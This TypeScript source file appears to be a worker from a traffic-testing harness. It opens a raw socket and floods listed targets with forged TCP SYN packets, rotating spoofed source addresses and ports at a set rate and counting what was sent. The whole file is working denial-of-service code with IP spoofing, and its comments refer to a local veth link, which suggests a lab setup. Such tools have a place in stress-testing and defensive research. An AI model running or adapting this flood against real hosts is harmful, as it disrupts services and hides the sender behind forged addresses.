// A flood of forged SYNs. `opened` counts those sent: only the victim knows what it made of them.

import { AF_INET, openSocket, SyscallError, sendTo } from "../src/linux/index.ts";
import type { Counts, HoldTask } from "./messages.ts";
import { Pacer } from "./pace.ts";
import { encodeSyn } from "./syn.ts";
import { onTask, tellKeeper } from "./worker.ts";

const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
/** The rate of a flood without a ramp. A faster one loses SYNs in the veth's queue (1000 packets) on a busy machine. */
const PER_SECOND_DEFAULT = 20_000;
const FIRST_PORT = 1024;
const PORTS = 60_000;

let flood: Flood | null = null;

onTask((message) => {
  if (message.kind === "hold") flood = new Flood(message);
  if (message.kind === "count" && flood !== null) tellKeeper({ kind: "counted", ...flood.counts() });
});

class Flood {
  readonly #task: HoldTask;
  readonly #pace: Pacer;
  readonly #fd = openSocket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  #sent = 0;
  #failed = 0;
  #settled = false;

  constructor(task: HoldTask) {
    this.#task = task;
    this.#pace = new Pacer({ count: task.count, perSecond: task.rampPerSecond || PER_SECOND_DEFAULT });
    this.#pace.onTick(() => this.#sendDue());
  }

  counts(): Counts {
    return { opened: this.#sent, failed: this.#failed, open: this.#sent, lost: 0 };
  }

  #sendDue(): void {
    while (this.#pace.takeOne()) this.#send(this.#task.first + this.#pace.taken - 1);
    if (!this.#pace.done || this.#settled) return;
    this.#settled = true;
    tellKeeper({ kind: "settled", ...this.counts() });
  }

  #send(i: number): void {
    const { addresses, targets } = this.#task;
    const target = targets[i % targets.length]!;
    const packet = encodeSyn({
      source: addresses[i % addresses.length]!,
      // Each round through the addresses has a new port, so no connection comes twice.
      sourcePort: FIRST_PORT + (Math.floor(i / addresses.length) % PORTS),
      target: target.address,
      targetPort: target.port,
      sequence: Math.floor(Math.random() * 2 ** 32),
    });
    try {
      sendTo(this.#fd, packet, destination(packet));
      this.#sent++;
    } catch (error) {
      if (!(error instanceof SyscallError)) throw error;
      this.#failed++;
    }
  }
}

/** The packet's struct sockaddr_in: family in the machine's order, port (raw sockets ignore it), address. */
function destination(packet: Uint8Array): Uint8Array {
  const address = new Uint8Array(16);
  new DataView(address.buffer).setUint16(0, AF_INET, true);
  address.set(packet.subarray(16, 20), 4);
  return address;
}
